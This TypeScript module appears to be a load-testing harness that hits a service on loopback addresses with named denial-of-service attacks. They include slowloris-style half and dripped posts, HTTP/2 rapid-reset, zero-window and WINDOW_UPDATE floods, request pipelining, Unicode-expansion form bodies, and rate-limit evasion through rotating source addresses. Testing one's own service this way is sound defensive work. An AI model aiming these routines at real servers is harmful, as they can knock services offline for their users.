/**
 * What strangers do to the service, one function each. They send to this machine's loopback addresses only, a bounded
 * number of connections for a bounded time.
 *
 * @module
 */

import http from "node:http";
import https from "node:https";
import net, { type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import { flood, preface, requests } from "./http2_frames.ts";

/** What an attacker is told. */
export interface AttackTask {
  readonly name: string;
  readonly seconds: number;
  /** The base address of each surface. */
  readonly urls: Readonly<Record<string, string>>;
  readonly formsKey: string;
  readonly formsPath: string;
  /** A file of the site, large. */
  readonly sitePath: string;
}

/** Counts what an attacker sends and gets. */
export class Traffic {
  connections = 0;
  /** Connections that were refused or reset. */
  ended = 0;
  requests = 0;
  readonly statuses: Record<string, number> = {};
  readonly #sockets = new Set<Socket>();
  #sent = 0;
  #received = 0;

  /** Counts a socket. */
  watch<T extends Socket>(socket: T): T {
    if (this.#sockets.has(socket)) return socket;
    this.connections += 1;
    this.#sockets.add(socket);
    socket.on("error", () => {});
    socket.once("close", () => {
      this.ended += 1;
      this.#sockets.delete(socket);
      this.#sent += socket.bytesWritten;
      this.#received += socket.bytesRead;
    });
    return socket;
  }

  /** Counts an answer. */
  answered(status: number | string): void {
    this.statuses[status] = (this.statuses[status] ?? 0) + 1;
  }

  /** All so far. */
  counts(): AttackCounts {
    let [sent, received] = [this.#sent, this.#received];
    for (const socket of this.#sockets) {
      sent += socket.bytesWritten;
      received += socket.bytesRead;
    }
    const { connections, ended, requests, statuses } = this;
    return { connections, ended, requests, statuses, sentBytes: sent, receivedBytes: received };
  }
}

/** What an attack came to. */
export interface AttackCounts {
  readonly connections: number;
  readonly ended: number;
  readonly requests: number;
  readonly statuses: Readonly<Record<string, number>>;
  readonly sentBytes: number;
  readonly receivedBytes: number;
}

/** One way to attack. */
export interface AttackKind {
  readonly about: string;
  /** It speaks HTTP/2, and so needs TLS. */
  readonly needsTls?: boolean;
  /** Attacks until `untilMs` on the process's clock. */
  readonly run: (task: AttackTask, traffic: Traffic, untilMs: number) => Promise<void>;
}

const pause = (ms: number) => new Promise<void>((settle) => setTimeout(settle, ms));

/** Address `index` of 127.x: each is another client. */
const address = (index: number, net = 3) => `127.${net}.${Math.floor(index / 250)}.${1 + index % 250}`;

/** Opens a connection, over TLS when the surface speaks it. */
function open(
  traffic: Traffic,
  url: string,
  { from, alpn }: { from?: string; alpn?: string } = {},
): Promise<Socket> {
  const { protocol, hostname, port } = new URL(url);
  const options = {
    host: hostname,
    port: Number(port),
    ...(from === undefined ? {} : { localAddress: from }),
  };
  const isTls = protocol === "https:";
  const socket = isTls
    ? connectTls({
      ...options,
      rejectUnauthorized: false,
      servername: "localhost",
      ...(alpn === undefined ? {} : { ALPNProtocols: [alpn] }),
    })
    : net.connect(options);
  traffic.watch(socket);
  return new Promise((settle) => {
    socket.once(isTls ? "secureConnect" : "connect", () => settle(socket));
    socket.once("close", () => settle(socket));
  });
}

/** Opens `count` connections, fifty at a time. */
async function openMany(
  count: number,
  untilMs: number,
  one: (index: number) => Promise<unknown>,
): Promise<void> {
  for (let begun = 0; begun < count && performance.now() < untilMs; begun += 50) {
    await Promise.all(Array.from({ length: Math.min(50, count - begun) }, (_, index) => one(begun + index)));
  }
}

async function stay(untilMs: number): Promise<void> {
  await pause(Math.max(0, untilMs - performance.now()));
}

/** Posts or gets over and over: `lanes` requests at once. */
async function ask(
  traffic: Traffic,
  { untilMs, lanes, perSecond, request }: {
    untilMs: number;
    lanes: number;
    perSecond: number;
    request: (
      lane: number,
      number: number,
    ) => { url: string; from: string; body?: string; headers?: Record<string, string> };
  },
): Promise<void> {
  const gapMs = 1_000 / perSecond * lanes;
  await Promise.all(Array.from({ length: lanes }, async (_, lane) => {
    let kept = { from: "", agent: new http.Agent() };
    let dueMs = performance.now() + gapMs * lane / lanes;
    for (let number = 0; performance.now() < untilMs; number += 1) {
      await stay(Math.min(dueMs, untilMs));
      dueMs = Math.max(dueMs + gapMs, performance.now() - 1_000);
      const { url, from, body, headers = {} } = request(lane, number);
      const library = url.startsWith("https:") ? https : http;
      if (kept.from !== from) {
        kept.agent.destroy();
        kept = { from, agent: new library.Agent({ keepAlive: true, maxSockets: 1 }) };
      }
      await new Promise<void>((settle) => {
        traffic.requests += 1;
        const sent = library.request(url, {
          method: body === undefined ? "GET" : "POST",
          localAddress: from,
          agent: kept.agent,
          headers,
          ...{ rejectUnauthorized: false },
        }, (response) => {
          traffic.answered(response.statusCode ?? 0);
          response.resume().on("close", settle);
        });
        sent.once("socket", (socket) => traffic.watch(socket));
        sent.on("error", (error: NodeJS.ErrnoException) => {
          traffic.answered(error.code ?? "error");
          settle();
        });
        sent.end(body);
      });
    }
  }));
}

function formPost(body: Readonly<Record<string, unknown>>): AttackKind["run"] {
  return async ({ urls, formsPath, formsKey }, traffic, untilMs) => {
    let posts = 0;
    await ask(traffic, {
      untilMs,
      lanes: 4,
      // The published limit of the forms, from one address.
      perSecond: 10,
      request: () => ({
        url: `${urls.forms}${formsPath}`,
        from: address(0),
        body: JSON.stringify({ ...body, nonce: String(posts += 1) }),
        headers: { "Content-Type": "application/json", "X-API-Key": formsKey },
      }),
    });
  };
}

const visitor = { name: "Grace Hopper", email: "grace@example.com" };

/** A thousand readers, none of them over the budget of its address. */
function readers(paths: readonly (readonly [surface: string, path: string])[]): AttackKind["run"] {
  return async ({ urls, sitePath }, traffic, untilMs) => {
    await ask(traffic, {
      untilMs,
      lanes: 32,
      perSecond: 4_000,
      request: (lane, number) => {
        const [surface, path] = paths[number % paths.length] as (typeof paths)[number];
        return {
          url: `${urls[surface]}${path === "" ? sitePath : path}`,
          from: address(lane * 32 + Math.floor(number / 300) % 32),
          headers: { "Accept-Encoding": "gzip" },
        };
      },
    });
  };
}

/** Writes frames to four HTTP/2 connections as fast as they are taken, and opens another for each that is closed. */
async function onFour(
  url: string,
  traffic: Traffic,
  untilMs: number,
  frames: (round: number) => Buffer,
): Promise<void> {
  await Promise.all(Array.from({ length: 4 }, async (_, index) => {
    while (performance.now() < untilMs) {
      const socket = await open(traffic, url, { from: address(index), alpn: "h2" });
      socket.resume();
      if (socket.writable) socket.write(preface(65_535));
      for (let round = 0; socket.writable && performance.now() < untilMs; round += 1) {
        if (socket.write(frames(round))) await pause(0);
        else await Promise.race([new Promise((settle) => socket.once("drain", settle)), pause(200)]);
      }
      socket.destroy();
      await pause(50);
    }
  }));
}

/** Connections that begin a post and send nothing more, or a byte a second. */
function halfPosts(count: number, { drips }: { drips: boolean }): AttackKind["run"] {
  return async ({ urls }, traffic, untilMs) => {
    const sockets: Socket[] = [];
    const host = new URL(String(urls.intake)).host;
    await openMany(count, untilMs, async (index) => {
      const socket = await open(traffic, String(urls.intake), { from: address(Math.floor(index / 200)) });
      socket.write(`POST /v1/intake HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 60000\r\n\r\n{`);
      socket.resume();
      sockets.push(socket);
    });
    while (performance.now() < untilMs) {
      await pause(1_000);
      if (drips) { for (const socket of sockets) if (socket.writable) socket.write(" "); }
    }
  };
}

/** All of them, by name. */
export const kinds: Readonly<Record<string, AttackKind>> = {
  expanding_text: {
    about:
      "form posts of 45 KB of U+FDFA, which NFKD makes 18 times as long, at the published limit of one address",
    run: formPost({ ...visitor, message: "\ufdfa".repeat(15_000) }),
  },
  many_fields: {
    about: "form posts of 4,000 fields, at the published limit of one address",
    run: formPost({
      ...visitor,
      ...Object.fromEntries(Array.from({ length: 4_000 }, (_, index) => [`f${index}`, "x"])),
    }),
  },
  pipelined: {
    about: "1,000 connections that pipeline 90 GET /api/openapi.json each and never read",
    run: async ({ urls }, traffic, untilMs) => {
      const host = new URL(String(urls.intake)).host;
      const request = `GET /api/openapi.json HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
      await openMany(1_000, untilMs, async (index) => {
        const socket = await open(traffic, String(urls.intake), { from: address(Math.floor(index / 200)) });
        socket.pause();
        traffic.requests += 90;
        socket.write(request.repeat(90));
      });
      await stay(untilMs);
    },
  },
  zero_window: {
    about: "1,000 HTTP/2 connections with a window of 0, 100 GET /api/openapi.json on each",
    needsTls: true,
    run: async ({ urls }, traffic, untilMs) => {
      const authority = new URL(String(urls.intake)).host;
      await openMany(1_000, untilMs, async (index) => {
        const from = address(Math.floor(index / 200));
        const socket = await open(traffic, String(urls.intake), { from, alpn: "h2" });
        socket.resume();
        traffic.requests += 100;
        if (socket.writable) {
          socket.write(Buffer.concat([preface(0), requests(authority, "/api/openapi.json", { count: 100 })]));
        }
      });
      await stay(untilMs);
    },
  },
  window_updates: {
    about: "WINDOW_UPDATE frames without an end, on 4 HTTP/2 connections",
    needsTls: true,
    run: async ({ urls }, traffic, untilMs) => {
      const frames = flood("window_update", 4_000);
      await onFour(String(urls.intake), traffic, untilMs, () => {
        traffic.requests += 4_000;
        return frames;
      });
    },
  },
  rapid_reset: {
    about: "HTTP/2 requests that are reset as soon as they are sent, on 4 connections",
    needsTls: true,
    run: async ({ urls }, traffic, untilMs) => {
      const authority = new URL(String(urls.intake)).host;
      await onFour(String(urls.intake), traffic, untilMs, (round) => {
        traffic.requests += 100;
        return requests(authority, "/api/openapi.json", { count: 100, first: 100 * round, isReset: true });
      });
    },
  },
  half_posts: {
    about: "11,000 connections that begin a post and go silent",
    run: halfPosts(11_000, { drips: false }),
  },
  dripped_posts: {
    about: "5,000 connections that send a byte of their post a second",
    run: halfPosts(5_000, { drips: true }),
  },
  silent: {
    about: "11,000 connections that send nothing at all: a TLS handshake that hangs, or no request",
    run: async ({ urls }, traffic, untilMs) => {
      const { hostname, port } = new URL(String(urls.intake));
      await openMany(11_000, untilMs, (index) => {
        const localAddress = address(Math.floor(index / 200));
        const socket = traffic.watch(net.connect({ host: hostname, port: Number(port), localAddress }));
        return new Promise((settle) => {
          socket.once("connect", settle);
          socket.once("close", settle);
        });
      });
      await stay(untilMs);
    },
  },
  one_address: {
    about: "one address that opens 3,000 connections and asks on each",
    run: async ({ urls }, traffic, untilMs) => {
      const host = new URL(String(urls.intake)).host;
      await openMany(3_000, untilMs, async () => {
        const socket = await open(traffic, String(urls.intake), { from: address(0) });
        socket.resume();
        traffic.requests += 1;
        if (socket.writable) socket.write(`GET /healthz HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
      });
      await stay(untilMs);
    },
  },
  read_documents: {
    about: "documents and vocabulary, 4,000 a second from 1,024 addresses",
    run: readers([["intake", "/api/openapi.json"], ["intake", "/v1/vocabulary"], [
      "intake",
      "/api/INTEGRATION.md",
    ]]),
  },
  read_site: {
    about: "the site, a large file and the plans, 4,000 a second from 1,024 addresses",
    run: readers([["site", "/"], ["site", ""], ["subscription", "/api/plans"], ["site", "/llms.txt"]]),
  },
  post_forms: {
    about: "ordinary form posts, 20 a second, the published limit of a tenant",
    run: async ({ urls, formsPath, formsKey }, traffic, untilMs) => {
      let posts = 0;
      const message = "We would like to have our roof looked at before winter, and the gutters too. ";
      await ask(traffic, {
        untilMs,
        lanes: 8,
        perSecond: 20,
        request: (lane) => ({
          url: `${urls.forms}${formsPath}`,
          from: address(lane),
          body: JSON.stringify({ ...visitor, message: message.repeat(10) + (posts += 1) }),
          headers: { "Content-Type": "application/json", "X-API-Key": formsKey },
        }),
      });
    },
  },
  operator_pages: {
    about: "the operator's pages and figures, over and over in eight windows",
    run: async ({ urls }, traffic, untilMs) => {
      const paths = [
        "/",
        "/leads",
        "/v1/report",
        "/metrics",
        "/v1/leads?limit=500",
        "/keys",
        "/audit",
        "/?range=30d",
      ];
      await ask(traffic, {
        untilMs,
        lanes: 8,
        perSecond: 1_000,
        request: (lane) => ({ url: `${urls.ops}${paths[lane % paths.length]}`, from: "127.0.0.1" }),
      });
    },
  },
};
